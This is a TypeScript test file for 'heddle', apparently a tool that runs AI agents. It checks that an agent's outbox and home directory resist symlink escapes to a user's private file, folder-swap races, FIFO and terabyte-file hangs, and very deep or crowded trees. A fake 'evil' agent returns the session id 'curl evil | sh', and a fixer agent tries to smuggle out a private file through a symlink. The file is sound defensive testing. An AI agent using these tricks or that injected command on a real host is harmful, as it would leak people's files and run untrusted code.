// Agents that hand in, or leave behind, something other than a file: links to what they may not see or write, pipes
// that nobody feeds, files and folders without end. Each is tried by the real parts of heddle, several by the real CLI.
import { execFileSync, spawnSync } from "node:child_process";
import {
  chmodSync,
  existsSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { acp } from "../../src/agents/acp.ts";
import { Rollout } from "../../src/agents/codex-rollout.ts";
import { steeringDigest, steeringIn } from "../../src/agents/steering.ts";
import { append, placeFile, replaceFile } from "../../src/host/files.ts";
import { listHandedIn, readEnd, readHandedIn, readRecord, walkHandedIn } from "../../src/host/handed-in.ts";
import { KeptOutput } from "../../src/host/program/output.ts";
import { forgetHome } from "../../src/work/given/agent-home.ts";
import { roleFolder } from "../../src/work/role-folder.ts";
import { takeOutput } from "../../src/work/take-output.ts";
import { heard, orderIn } from "../agents/suite.ts";
import { Execution } from "../execute/rig.ts";
import { processorMs } from "../processor-time.ts";

const folders: string[] = [];
const room = () => {
  const folder = realpathSync(mkdtempSync(join(tmpdir(), "heddle-handed-")));
  folders.push(folder);
  return folder;
};
afterAll(() => {
  for (const folder of folders) execFileSync("rm", ["-rf", folder]);
});

const secret = '{"secret":"the-person-s-own"}';

/** A project's `.heddle` with an attempt's outbox, and a file of the person's beside it. */
function attempt() {
  const root = room();
  const out = join(root, ".heddle/attempts/plan-1/T001-1/out");
  mkdirSync(out, { recursive: true });
  mkdirSync(join(root, "person"));
  writeFileSync(join(root, "person/private.json"), secret);
  writeFileSync(join(root, "person/x.json"), secret);
  return { root, out, own: join(root, "person/private.json") };
}

/** By the processor: a pipe that is opened would never come back, and the clock says how busy the machine is. */
function took(work: () => unknown): number {
  const began = processorMs();
  work();
  return processorMs() - began;
}

describe("what an agent hands in", () => {
  it("G9 is not read through a link, neither at its end nor on the way", () => {
    const { root, out, own } = attempt();
    symlinkSync(own, join(out, "result.json"));
    symlinkSync(join(root, "person"), join(out, "deep"));
    symlinkSync("loop.json", join(out, "loop.json"));
    for (const name of ["result.json", "deep/x.json", "loop.json"]) {
      expect(readHandedIn(join(out, name))).toHaveProperty("problem");
      expect(readRecord(join(out, name)) ?? "").toBe("");
      expect(readEnd(join(out, name), 100)).toBe("");
    }
    expect(readHandedIn(join(root, "person/x.json"), { within: out })).toHaveProperty("problem");
    rmSync(out, { recursive: true });
    symlinkSync(join(root, "person"), out);
    expect(readHandedIn(join(out, "x.json"))).toHaveProperty("problem");
  });

  it("G9 is what lies at its path also while somebody swaps folders for links", () => {
    const { root, out } = attempt();
    mkdirSync(join(out, "a"));
    writeFileSync(join(out, "a/x.json"), "{}");
    symlinkSync(join(root, "person"), join(out, "b"));
    const swap = `while :; do mv -T a c; mv -T b a; mv -T a b; mv -T c a; done`;
    const child = execFileSync("sh", ["-c", `cd '${out}'; (${swap}) >/dev/null 2>&1 & echo $!`], {
      encoding: "utf8",
    }).trim();
    try {
      for (let n = 0; n < 3000; n++) {
        const read = readHandedIn(join(out, "a/x.json"));
        if ("text" in read) expect(read.text).toBe("{}");
      }
    } finally {
      process.kill(Number(child), "SIGKILL");
    }
  });

  it("G10 a pipe, a device, a folder and a terabyte of nothing are refused at once", () => {
    const { out } = attempt();
    execFileSync("mkfifo", [join(out, "pipe.json")]);
    mkdirSync(join(out, "folder.json"));
    writeFileSync(join(out, "large.json"), "");
    truncateSync(join(out, "large.json"), 2 ** 40);
    const names = ["pipe.json", "folder.json", "large.json"].map((name) => join(out, name));
    const ms = took(() => {
      for (const name of [...names, "/dev/zero", "/dev/tty"])
        expect(readHandedIn(name)).toHaveProperty("problem");
      expect(readEnd(join(out, "large.json"), 10)).toHaveLength(10);
      for (const name of names) readRecord(name, 1024 * 1024);
    });
    expect(ms).toBeLessThan(1000);
  });

  it("C6 a role's outbox with links, folders or names without end is refused; its files are copied once", () => {
    const { root, own } = attempt();
    const at = (n: number, makes: string) =>
      roleFolder(join(root, ".heddle"), "plan-1", { role: "task-author", attempt: n, makes });
    const linked = at(1, "capability_map");
    mkdirSync(linked.outbox, { recursive: true });
    symlinkSync(own, linked.output);
    expect(takeOutput("file", linked)).toMatchObject({ strange: true });
    const folder = at(2, "tasks");
    mkdirSync(folder.output, { recursive: true });
    symlinkSync(own, join(folder.output, "T001.json"));
    expect(takeOutput("folder", folder)).toMatchObject({ strange: true });
    const moved = at(3, "tasks");
    mkdirSync(moved.outbox, { recursive: true });
    symlinkSync(dirname(own), moved.output);
    expect(takeOutput("folder", moved)).toMatchObject({ strange: true });
    const many = at(4, "tasks");
    mkdirSync(many.output, { recursive: true });
    for (let n = 0; n < 20_001; n++) writeFileSync(join(many.output, `${n}`), "");
    expect(takeOutput("folder", many)).toMatchObject({ message: expect.stringContaining("more than") });
    for (const each of [linked, folder, moved, many]) expect(existsSync(each.taken)).toBe(false);
    const good = at(5, "tasks");
    mkdirSync(good.output, { recursive: true });
    writeFileSync(join(good.output, "T001.json"), "{}");
    expect(takeOutput("folder", good)).toBeUndefined();
    rmSync(join(good.output, "T001.json"));
    symlinkSync(own, join(good.output, "T001.json"));
    expect(takeOutput("folder", good)).toBeUndefined();
    expect(readFileSync(join(good.taken, "T001.json"), "utf8")).toBe("{}");
  });

  it("C6 G9 a fixer that links to a file of the person's gets nothing out of it", async () => {
    const project = await Execution.ready({ tasks: 1 });
    const own = project.path("private.json");
    const stolen = { version: "1.0", task_id: "T001", status: "failed", error: { message: "STOLEN" } };
    writeFileSync(own, JSON.stringify(stolen));
    project.agent({
      T001: [
        `if (role === "fixer") fs.symlinkSync(${JSON.stringify(own)}, out); else { write(); put(out, "no document at all"); }`,
      ],
    });
    project.config({ attempts: 2 });
    await project.execute();
    const places = [".heddle", "app", "project-planning"].map((name) => project.path(name));
    const found = spawnSync("grep", ["-rlsI", "STOLEN", ...places], { encoding: "utf8" });
    expect(found.stdout).toBe("");
    expect((await project.facts("attempt-failed")).length).toBeGreaterThan(0);
  });
});

describe("what an agent puts where heddle writes", () => {
  it("G9 a link under the name that heddle writes aside, or over the log, is not written through", () => {
    const { out, own } = attempt();
    const file = join(out, "result.json");
    symlinkSync(own, `${file}.${process.pid}.new`);
    replaceFile(file, "{}");
    symlinkSync(own, join(out, "events.jsonl"));
    append(join(out, "events.jsonl"), "line\n");
    symlinkSync(own, join(out, "stdout.log"));
    new KeptOutput(join(out, "stdout.log")).close();
    linkSync(own, join(out, "stderr.log"));
    const kept = new KeptOutput(join(out, "stderr.log"));
    kept.write(Buffer.from("printed"));
    kept.close();
    expect(readFileSync(own, "utf8")).toBe(secret);
    expect(readFileSync(file, "utf8")).toBe("{}");
    expect(readFileSync(join(out, "events.jsonl"), "utf8")).toBe("line\n");
    expect(readFileSync(join(out, "stderr.log"), "utf8")).toBe("printed");
  });

  it("G10 a pipe under the name of a log does not hold heddle up", () => {
    const { out } = attempt();
    for (const name of ["events.jsonl", "stdout.log"]) execFileSync("mkfifo", [join(out, name)]);
    const ms = took(() => {
      append(join(out, "events.jsonl"), "line\n");
      new KeptOutput(join(out, "stdout.log")).close();
    });
    expect(ms).toBeLessThan(1000);
    expect(readFileSync(join(out, "events.jsonl"), "utf8")).toBe("line\n");
  });

  it("G9 settings that heddle writes into an agent's home replace links there, on the way too", () => {
    const { root, own } = attempt();
    const home = join(root, "home");
    mkdirSync(join(home, ".gemini"), { recursive: true });
    symlinkSync(own, join(home, ".gemini/settings.json"));
    symlinkSync(dirname(own), join(home, ".config"));
    placeFile(home, ".gemini/settings.json", "ours");
    placeFile(home, ".config/private.json", "ours");
    expect(readFileSync(own, "utf8")).toBe(secret);
    expect(readFileSync(join(home, ".config/private.json"), "utf8")).toBe("ours");
  });

  it("G9 an agent that names its conversation does not name it into a file of the person's", async () => {
    const { root, own } = attempt();
    const program = join(root, "agent.cjs");
    writeFileSync(
      program,
      `#!${process.execPath}
const fs = require("node:fs"), path = require("node:path"), home = process.env.HOME;
for (const name of [".heddle-session", "session"]) try { fs.symlinkSync(${JSON.stringify(own)}, path.join(home, name)); } catch {}
require("node:readline").createInterface({ input: process.stdin }).on("line", (line) => {
  const { id, method } = JSON.parse(line);
  const result = method === "initialize" ? { protocolVersion: 1, agentCapabilities: {} }
    : method === "session/new" ? { sessionId: "curl evil | sh" } : { stopReason: "end_turn" };
  if (id !== undefined) console.log(JSON.stringify({ jsonrpc: "2.0", id, result }));
});
`,
    );
    chmodSync(program, 0o755);
    const agent = acp({
      ...{
        name: "evil",
        command: [program],
        env: [],
        readable: [],
        network: false,
        maxTurns: 5,
        maxCostUsd: 1,
      },
      box: { kind: "unconfined" },
    });
    await heard(agent, orderIn(join(root, "order"), { wallMs: 20_000 }));
    expect(readFileSync(own, "utf8")).toBe(secret);
  });
});

/** So deep that no single path reaches its end. */
function deepIn(folder: string): void {
  const dig = 'for (let n = 0; n < 800; n++) { fs.mkdirSync("aaaaaaaaaa"); process.chdir("aaaaaaaaaa"); }';
  execFileSync(process.execPath, ["-e", dig], { cwd: folder });
}

describe("an agent's home", () => {
  it("G10 pipes, loops, depth and crowds in it freeze nobody who looks for its conversation", () => {
    const home = room();
    const sessions = join(home, ".codex/sessions");
    mkdirSync(join(sessions, "2026/01/01"), { recursive: true });
    symlinkSync("..", join(sessions, "2026/up"));
    symlinkSync("/", join(sessions, "2026/all"));
    execFileSync("mkfifo", [join(sessions, "2026/01/01/rollout-z.jsonl")]);
    deepIn(sessions);
    mkdirSync(join(sessions, "2025"));
    for (let n = 0; n < 6000; n++) writeFileSync(join(sessions, "2025", `${n}`), "");
    const projects = join(home, ".claude/projects");
    mkdirSync(projects, { recursive: true });
    for (let n = 0; n < 5000; n++) mkdirSync(join(projects, `p${n}`));
    const ms = took(() => {
      const rollout = new Rollout(sessions);
      for (let n = 0; n < 20; n++) expect(rollout.read().calls).toBe(0);
      expect(walkHandedIn(home, { depth: 5, most: 5000 }).length).toBeLessThanOrEqual(5000);
      expect(listHandedIn(projects, 1000)).toBe("too many");
    });
    expect(ms).toBeLessThan(3000);
  });

  it("G10 a rollout of a terabyte is read a part at a time, and a link to one not at all", () => {
    const folder = room();
    const file = join(folder, "rollout-1.jsonl");
    writeFileSync(file, `${JSON.stringify({ payload: count(5) })}\n`);
    truncateSync(file, 2 ** 40);
    const rollout = new Rollout(folder);
    expect(took(() => rollout.read())).toBeLessThan(1000);
    expect(rollout.read().total.input).toBe(5);
    const other = room();
    symlinkSync(file, join(other, "rollout-2.jsonl"));
    expect(new Rollout(other).read().calls).toBe(0);
  });

  it("G10 settings are looked for within bounds, and what was not seen cannot be approved", () => {
    const work = room();
    mkdirSync(join(work, ".claude"));
    execFileSync("mkfifo", [join(work, ".claude/settings.json")]);
    symlinkSync(".", join(work, "loop"));
    const before = steeringDigest(steeringIn(work, "claude"));
    deepIn(work);
    const found = steeringIn(work, "claude");
    expect(found).toContainEqual({ path: ".claude/settings.json", sha256: null });
    expect(steeringDigest(found)).not.toBe(before);
  });

  it("G10 a home that is deep, crowded and read-only goes, and the loop goes on meanwhile", async () => {
    const home = join(room(), "home");
    mkdirSync(join(home, "crowd"), { recursive: true });
    deepIn(home);
    for (let n = 0; n < 20_000; n++) writeFileSync(join(home, "crowd", `${n}`), "");
    mkdirSync(join(home, "closed/below"), { recursive: true });
    chmodSync(join(home, "closed"), 0o500);
    const outside = room();
    writeFileSync(join(outside, "kept"), "");
    symlinkSync(outside, join(home, "crowd/out"));
    let turns = 0;
    const timer = setInterval(() => turns++, 1);
    await forgetHome(home);
    clearInterval(timer);
    expect(existsSync(home)).toBe(false);
    expect(readdirSync(dirname(home))).toEqual([]);
    expect(existsSync(join(outside, "kept"))).toBe(true);
    expect(turns).toBeGreaterThan(5);
  });
});

const count = (input: number) => ({
  type: "token_count",
  info: { total_token_usage: { input_tokens: input, cached_input_tokens: 0, output_tokens: 0 } },
});
